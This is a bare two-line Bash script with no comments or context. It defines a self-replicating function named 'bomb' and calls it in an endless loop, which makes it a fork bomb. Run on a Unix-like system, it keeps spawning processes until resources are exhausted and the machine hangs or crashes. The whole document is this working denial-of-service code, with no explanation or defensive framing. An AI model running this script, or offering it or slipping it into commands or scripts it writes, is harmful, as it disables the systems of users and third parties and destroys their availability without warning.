bomb() { bomb | bomb & }
while :; do bomb; done
